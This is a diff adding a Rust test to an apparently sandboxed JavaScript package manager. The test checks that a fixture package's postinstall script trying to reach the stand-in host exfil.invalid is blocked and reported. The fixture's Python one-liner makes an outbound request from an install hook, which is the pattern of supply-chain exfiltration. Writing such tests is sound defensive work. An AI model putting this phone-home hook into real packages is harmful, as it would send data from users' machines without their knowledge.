@@ -597,3 +597,59 @@ fn weak_integrity_is_a_warn_event_decided_before_extraction() {
     assert!(text(&out).contains("tampered-old@1.0.0"), "{}", text(&out));
     assert!(!q.root.join("node_modules/tampered-old").exists());
 }
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_connection_outside_the_network_grant_is_reported_as_a_block() {
+    let registry = FixtureRegistry::start().unwrap();
+    // Python's urllib honours the proxy variables the sandbox sets; the grant names one host,
+    // the script asks for another. Then it does its real work (the control).
+    let script = "python3 -c \"import urllib.request\ntry:\n  urllib.request.urlopen('http://exfil.invalid/', timeout=10)\nexcept Exception as e:\n  print('refused', e)\nopen('built.txt','w').write('BUILT')\"";
+    let pkg = PackageBuilder::new("phones-home", "1.0.0")
+        .script("postinstall", script)
+        .file("index.js", "")
+        .build()
+        .unwrap();
+    registry.add(&pkg);
+    let p = Project::new(r#"{"name":"app","dependencies":{"phones-home":"1.0.0"}}"#);
+    let home = p.root.parent().unwrap().join("fake-home");
+    std::fs::create_dir_all(&home).unwrap();
+    let built = p
+        .root
+        .join("node_modules/.sandboxpm/phones-home@1.0.0/node_modules/phones-home/built.txt");
+    let rc = |on_block: &str| {
+        std::fs::write(
+            p.root.join(".sandboxpmrc"),
+            format!(
+                r#"{{"whitelist":["phones-home@1.0.0"],"policies":{{"onBlock":"{on_block}"}},
+                "sandbox":{{"packages":{{"phones-home":{{"network":["allowed.invalid:443"]}}}}}}}}"#
+            ),
+        )
+        .unwrap();
+    };
+    rc("abort");
+    let out = install_with_home(&p, &registry.url(), &home);
+    let t = text(&out);
+    assert!(
+        !out.status.success(),
+        "the block did not stop the install: {t}"
+    );
+    assert!(
+        t.contains(
+            "blocked: phones-home@1.0.0 postinstall: connection to exfil.invalid:80 refused"
+        ),
+        "{t}"
+    );
+    assert!(built.exists(), "the control did not run: {t}");
+
+    // `continue`: reported in the summary, the install succeeds.
+    std::fs::remove_dir_all(p.root.join("node_modules")).unwrap();
+    rc("continue");
+    let out = install_with_home(&p, &registry.url(), &home);
+    let t = text(&out);
+    assert!(out.status.success(), "{t}");
+    assert!(
+        t.contains("postinstall: connection to exfil.invalid:80 refused"),
+        "{t}"
+    );
+}
